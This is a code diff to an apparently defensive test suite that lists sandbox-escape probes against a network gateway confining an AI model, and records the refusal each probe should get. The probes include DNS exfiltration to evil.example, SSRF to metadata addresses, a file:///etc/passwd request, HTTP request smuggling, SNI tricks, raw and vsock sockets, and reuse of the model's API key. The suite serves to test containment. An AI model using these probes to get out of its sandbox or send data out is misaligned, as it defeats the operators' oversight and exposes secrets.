@@ -5,10 +5,13 @@ from escape.attack import Attack
 PRELUDE = r"""
 import json, os, socket, ssl, struct, subprocess, sys, threading
 
-def through(): print("THROUGH")
-
 def answered(data):
-    if data: through()
+    through() if data else refused("closed")
+
+def said_by_the_gateway(data):
+    # Its refusals have one of these statuses and its name, and for the model the form of an error.
+    status, _, body = data.partition(b" ")[2].partition(b" ")
+    return status in {b"400", b"401", b"403"} and (b"Sandbox refused " in body or b'"type":"error"' in body)
 
 def tcp(address, port, say=b"", family=socket.AF_INET):
     with socket.socket(family, socket.SOCK_STREAM) as line:
@@ -27,8 +30,10 @@ def udp(address, port, say=b"hello"):
         return line.recv(4000)
 
 def ok(data):
+    print(data[:200])
     if b" 200 " in data.split(b"\r\n")[0]: through()
-    else: print(data[:200])
+    elif said_by_the_gateway(data): refused("gateway")
+    elif not data: refused("closed")
 
 def proxy(request):
     return tcp("127.0.0.1", 3128, request)
@@ -55,13 +60,16 @@ def query(name, kind=1, server="198.18.0.1", port=53, by=udp):
     return by(server, port, message)
 
 def resolved(answer):
-    # The number of answers in the header: nothing else is looked at.
-    if answer and struct.unpack("!H", answer[6:8])[0]: through()
+    # Of the header: the number of answers, and the code that says why there are none.
+    code, answers = answer[3] & 15, struct.unpack("!H", answer[6:8])[0]
+    if answers: through()
+    else: refused({0: "no records", 3: "no such name", 5: "refused by the resolver"}.get(code, f"code {code}"))
 
 def curl(*arguments):
     ran = subprocess.run(["curl", "-sS", "-m", "10", "--cacert", "/workspace/ca.pem", *arguments], capture_output=True)
+    print(ran.stdout[-200:], ran.stderr[-200:])
     if b'"path"' in ran.stdout: through()
-    else: print(ran.stdout[-200:], ran.stderr[-200:])
+    elif b"Sandbox refused " in ran.stdout: refused("gateway")
 
 def tls(address, port, name, host, by_proxy=False):
     context = ssl.create_default_context(cafile="/workspace/ca.pem")
@@ -69,7 +77,8 @@ def tls(address, port, name, host, by_proxy=False):
     line = socket.create_connection((address, port), 10)
     if by_proxy:
         line.sendall(f"CONNECT {HOST}:443 HTTP/1.1\r\nHost: {HOST}:443\r\n\r\n".encode())
-        assert b" 200 " in line.recv(1000)
+        with means():
+            if b" 200 " not in line.recv(1000): raise OSError("no tunnel")
     with context.wrap_socket(line, server_hostname=name) as secure:
         secure.sendall(get(host))
         ok(secure.recv(4000))
@@ -92,6 +101,11 @@ answered(udp("127.0.0.1", server.getsockname()[1]))"""
 OWN_UNIX = """
 server = socket.socket(socket.AF_UNIX); server.bind("\\0twin"); server.listen()
 line = socket.socket(socket.AF_UNIX); line.connect("\\0twin"); through()"""
+
+
+NO_ROUTE, GATEWAY, CLOSED = ("ENETUNREACH",), ("gateway",), ("closed", "ECONNRESET")
+UNSUPPORTED = ("EPERM", "EACCES", "EAFNOSUPPORT")
+NO_NAME = ("no such name", "refused by the resolver")
 
 
 def network_attacks():
@@ -134,8 +148,8 @@ def _by_address():
         ("the model's host", "MODEL_HOST"),
         ("the server's own address", "SERVER"),
     ):
-        yield Attack(f"TCP to {name}", f"answered(tcp({address}, 80))", REACH_DIRECTLY)
-        yield Attack(f"UDP to {name}", f"answered(udp({address}, 53))", OWN_UDP)
+        yield Attack(f"TCP to {name}", f"answered(tcp({address}, 80))", REACH_DIRECTLY, NO_ROUTE, packet=("tcp", address, 80))  # fmt: skip
+        yield Attack(f"UDP to {name}", f"answered(udp({address}, 53))", OWN_UDP, NO_ROUTE, packet=("udp", address, 53))
 
 
 def _by_odd_address():
@@ -148,30 +162,52 @@ def _by_odd_address():
         ("by NAT64", "'[64:ff9b::a9fe:a9fe]'"),
         ("as IPv6 loopback", "'[::1]'"),
     ):
-        yield Attack(f"an address {name} by the proxy", f"ok(connect(({target}).encode() + b':80'))", REACH_BY_CONNECT)
+        yield Attack(
+            f"an address {name} by the proxy", f"ok(connect(({target}).encode() + b':80'))", REACH_BY_CONNECT, GATEWAY
+        )
 
 
 def _by_no_name():
     yield Attack(
-        "an address of the played range that no name has", "ok(tcp('198.18.77.7', 80, get(HOST)))", REACH_DIRECTLY
+        "an address of the played range that no name has",
+        "ok(tcp('198.18.77.7', 80, get(HOST)))",
+        REACH_DIRECTLY,
+        GATEWAY,
     )
-    yield Attack("the server's ports on loopback", "answered(tcp('127.0.0.1', SERVER_PORT))", OWN_LISTENER)
-    yield Attack("the host's IPv6 loopback", "answered(tcp('::1', SERVER_PORT, family=socket.AF_INET6))", OWN_LISTENER)
+    yield Attack(
+        "the server's ports on loopback", "answered(tcp('127.0.0.1', SERVER_PORT))", OWN_LISTENER, ("ECONNREFUSED",)
+    )
+    yield Attack(
+        "the host's IPv6 loopback",
+        "answered(tcp('::1', SERVER_PORT, family=socket.AF_INET6))",
+        OWN_LISTENER,
+        ("ECONNREFUSED",),
+    )
 
 
 def _by_name():
-    yield Attack("DNS for a name that is not allowed", "resolved(query('other.example'))", RESOLVE)
-    yield Attack("data in a DNS name", "resolved(query('c2VjcmV0LXZhbHVl.evil.example'))", RESOLVE)
-    yield Attack("data in a name below an allowed one", "resolved(query('c2VjcmV0.' + HOST))", RESOLVE)
+    yield Attack("DNS for a name that is not allowed", "resolved(query('other.example'))", RESOLVE, NO_NAME)
+    yield Attack("data in a DNS name", "resolved(query('c2VjcmV0LXZhbHVl.evil.example'))", RESOLVE, NO_NAME)
+    yield Attack("data in a name below an allowed one", "resolved(query('c2VjcmV0.' + HOST))", RESOLVE, NO_NAME)
     yield Attack("DNS by TCP", "resolved(query('other.example', by=lambda a, p, m: tcp(a, p, struct.pack('!H', len(m)) + m)[2:]))",
-                 "resolved(query(HOST, by=lambda a, p, m: tcp(a, p, struct.pack('!H', len(m)) + m)[2:]))")  # fmt: skip
-    yield Attack("a TXT record", "resolved(query(HOST, kind=16))", RESOLVE)
-    yield Attack("a resolver outside", "answered(query('other.example', server=PUBLIC))", RESOLVE)
-    yield Attack("a name with an allowed one as its end", "resolved(query('evil' + HOST))", RESOLVE)
-    yield Attack("a name with an allowed one at its beginning", "resolved(query(HOST + '.evil.example'))", RESOLVE)
-    yield Attack("a name that resolves to a private address", "curl('http://inside.example/x')", REACH_BY_CURL)
-    yield Attack("a name that resolves to the metadata address", "curl('http://metadata.example/x')", REACH_BY_CURL)
-    yield Attack("a name that resolves to the server itself", "curl('http://own.example/x')", REACH_BY_CURL)
+                 "resolved(query(HOST, by=lambda a, p, m: tcp(a, p, struct.pack('!H', len(m)) + m)[2:]))", NO_NAME)  # fmt: skip
+    yield Attack("a TXT record", "resolved(query(HOST, kind=16))", RESOLVE, (*NO_NAME, "no records"))
+    yield Attack(
+        "a resolver outside",
+        "answered(query('other.example', server=PUBLIC))",
+        RESOLVE,
+        NO_ROUTE,
+        packet=("udp", "PUBLIC", 53),
+    )
+    yield Attack("a name with an allowed one as its end", "resolved(query('evil' + HOST))", RESOLVE, NO_NAME)
+    yield Attack(
+        "a name with an allowed one at its beginning", "resolved(query(HOST + '.evil.example'))", RESOLVE, NO_NAME
+    )
+    yield Attack("a name that resolves to a private address", "curl('http://inside.example/x')", REACH_BY_CURL, GATEWAY)
+    yield Attack(
+        "a name that resolves to the metadata address", "curl('http://metadata.example/x')", REACH_BY_CURL, GATEWAY
+    )
+    yield Attack("a name that resolves to the server itself", "curl('http://own.example/x')", REACH_BY_CURL, GATEWAY)
 
 
 def _through_the_proxy():
@@ -185,48 +221,65 @@ def _through_the_proxy():
         ("the model's host", "MODEL_HOST.encode() + b':' + str(MODEL_PORT).encode()"),
         ("the proxy itself", "b'127.0.0.1:3128'"),
     ):
-        yield Attack(f"CONNECT to {name}", f"ok(connect({target}))", REACH_BY_CONNECT)
+        yield Attack(f"CONNECT to {name}", f"ok(connect({target}))", REACH_BY_CONNECT, GATEWAY)
     yield Attack(
         "CONNECT with an allowed Host header",
         "ok(connect(b'other.example:443', HOST.encode() + b':443'))",
         REACH_BY_CONNECT,
+        GATEWAY,
     )
-    yield Attack("absolute form for another host", "ok(proxy(b'GET http://other.example/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", ABSOLUTE)  # fmt: skip
-    yield Attack("absolute form with another Host", "ok(proxy(b'GET http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", ABSOLUTE)  # fmt: skip
-    yield Attack("a file URL by the proxy", "ok(proxy(b'GET file:///etc/passwd HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", ABSOLUTE)  # fmt: skip
-    yield Attack("two lengths", "ok(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nContent-Length: 50\\r\\n\\r\\nabcdGET http://other.example/x HTTP/1.1\\r\\n\\r\\n'))", ABSOLUTE)  # fmt: skip
-    yield Attack("a length and chunks", "ok(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", ABSOLUTE)  # fmt: skip
+    yield Attack("absolute form for another host", "ok(proxy(b'GET http://other.example/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
+    yield Attack("absolute form with another Host", "ok(proxy(b'GET http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
+    yield Attack("a file URL by the proxy", "ok(proxy(b'GET file:///etc/passwd HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
+    yield Attack("two lengths", "ok(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nContent-Length: 50\\r\\n\\r\\nabcdGET http://other.example/x HTTP/1.1\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
+    yield Attack("a length and chunks", "ok(proxy(b'POST http://' + HOST.encode() + b'/x HTTP/1.1\\r\\nHost: ' + HOST.encode() + b'\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /x HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))", ABSOLUTE, GATEWAY)  # fmt: skip
     yield Attack("a request hidden behind another", """
 line = socket.create_connection((HOST, 80), 10)
 line.sendall(get(HOST).replace(b"Connection: close\\r\\n", b"") + get("other.example"))
 data = b""
 while more := line.recv(4000): data += more
-if data.count(b"HTTP/1.1 200") > 1: through()""", "ok(tcp(HOST, 80, get(HOST)))")  # fmt: skip
+if data.count(b"HTTP/1.1 200") > 1: through()
+elif data.count(b"HTTP/1.1 ") == 1 or said_by_the_gateway(data[data.rindex(b"HTTP/1.1 "):]): refused("gateway")""", "ok(tcp(HOST, 80, get(HOST)))", GATEWAY)  # fmt: skip
 
 
 def _through_the_open_door():
     yield Attack(
-        "TLS for another name on an allowed address", "tls(HOST, 443, 'other.example', 'other.example')", TLS_DIRECT
+        "TLS for another name on an allowed address",
+        "tls(HOST, 443, 'other.example', 'other.example')",
+        TLS_DIRECT,
+        CLOSED,
     )
-    yield Attack("TLS without a name", "tls(HOST, 443, None, HOST)", TLS_DIRECT)
+    yield Attack("TLS without a name", "tls(HOST, 443, None, HOST)", TLS_DIRECT, CLOSED)
     yield Attack(
-        "TLS for another name in a tunnel", "tls('127.0.0.1', 3128, 'other.example', HOST, by_proxy=True)", TLS_BY_PROXY
+        "TLS for another name in a tunnel",
+        "tls('127.0.0.1', 3128, 'other.example', HOST, by_proxy=True)",
+        TLS_BY_PROXY,
+        CLOSED,
     )
-    yield Attack("no TLS on port 443", "ok(tcp(HOST, 443, get(HOST)))", TLS_DIRECT)
-    yield Attack("another Host on port 80", "ok(tcp(HOST, 80, get('other.example')))", "ok(tcp(HOST, 80, get(HOST)))")
+    yield Attack("no TLS on port 443", "ok(tcp(HOST, 443, get(HOST)))", TLS_DIRECT, CLOSED)
     yield Attack(
-        "no Host on port 80", "ok(tcp(HOST, 80, b'GET /x HTTP/1.0\\r\\n\\r\\n'))", "ok(tcp(HOST, 80, get(HOST)))"
+        "another Host on port 80", "ok(tcp(HOST, 80, get('other.example')))", "ok(tcp(HOST, 80, get(HOST)))", GATEWAY
     )
-    yield Attack("a redirect to another host", "curl('-L', 'http://' + HOST + '/away/other.example?x')", REACH_BY_CURL)
+    yield Attack(
+        "no Host on port 80",
+        "ok(tcp(HOST, 80, b'GET /x HTTP/1.0\\r\\n\\r\\n'))",
+        "ok(tcp(HOST, 80, get(HOST)))",
+        GATEWAY,
+    )
+    yield Attack(
+        "a redirect to another host", "curl('-L', 'http://' + HOST + '/away/other.example?x')", REACH_BY_CURL, GATEWAY
+    )
     yield Attack("the model's door without the task's key", "ok(tcp('127.0.0.1', 8123, b'POST /v1/messages HTTP/1.1\\r\\nHost: 127.0.0.1:8123\\r\\nContent-Length: 2\\r\\nx-api-key: made-up\\r\\n\\r\\n{}'))",
-                 "if os.environ['ANTHROPIC_BASE_URL'].startswith('http://127.0.0.1:8123'): answered(tcp('127.0.0.1', 8123))")  # fmt: skip
+                 "if os.environ['ANTHROPIC_BASE_URL'].startswith('http://127.0.0.1:8123'): answered(tcp('127.0.0.1', 8123))", GATEWAY)  # fmt: skip
     yield Attack("another path of the model's door", """
 key = os.environ.get("ANTHROPIC_API_KEY") or os.environ.get("ANTHROPIC_AUTH_TOKEN") or ""
 ok(tcp("127.0.0.1", 8123, f"GET /v1/files HTTP/1.1\\r\\nHost: 127.0.0.1:8123\\r\\nx-api-key: {key}\\r\\n\\r\\n".encode()))""",
-                 "answered(tcp('127.0.0.1', 8123))")  # fmt: skip
+                 "answered(tcp('127.0.0.1', 8123))", GATEWAY)  # fmt: skip
 
-    yield Attack("a tool of the model's servers", "ask_model(tools=[FETCH])", "ask_model(tools=[OWN_TOOL])")
-    yield Attack("a tool of the model's servers in a message", "ask_model(added(FETCH))", "ask_model(added(OWN_TOOL))")
+    yield Attack("a tool of the model's servers", "ask_model(tools=[FETCH])", "ask_model(tools=[OWN_TOOL])", GATEWAY)
+    yield Attack(
+        "a tool of the model's servers in a message", "ask_model(added(FETCH))", "ask_model(added(OWN_TOOL))", GATEWAY
+    )
 
 
 def _by_other_families():
@@ -234,12 +287,14 @@ def _by_other_families():
         "a raw IP socket",
         "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); through()",
         OWN_LISTENER,
+        UNSUPPORTED,
     )
     yield Attack(
         "a packet socket",
-        "line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); line.bind(('eth0', 0)); through()",
+        "line = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); line.bind(('lo', 0)); through()",
         OWN_LISTENER,
+        UNSUPPORTED,
     )
-    yield Attack("a vsock to the host", "line = socket.socket(socket.AF_VSOCK); line.settimeout(4); line.connect((2, 1024)); through()", OWN_LISTENER)  # fmt: skip
-    yield Attack("an abstract Unix socket of the host's", "line = socket.socket(socket.AF_UNIX); line.connect('\\0' + ABSTRACT); through()", OWN_UNIX)  # fmt: skip
-    yield Attack("a Unix socket file of the host's", "line = socket.socket(socket.AF_UNIX); line.connect(SOCKET_FILE); through()", OWN_UNIX)  # fmt: skip
+    yield Attack("a vsock to the host", "line = socket.socket(socket.AF_VSOCK); line.settimeout(4); line.connect((2, 1024)); through()", OWN_LISTENER, UNSUPPORTED)  # fmt: skip
+    yield Attack("an abstract Unix socket of the host's", "line = socket.socket(socket.AF_UNIX); line.connect('\\0' + ABSTRACT); through()", OWN_UNIX, ("ECONNREFUSED",))  # fmt: skip
+    yield Attack("a Unix socket file of the host's", "line = socket.socket(socket.AF_UNIX); line.connect(SOCKET_FILE); through()", OWN_UNIX, ("ENOENT",), host_paths=("SOCKET_FILE",))  # fmt: skip
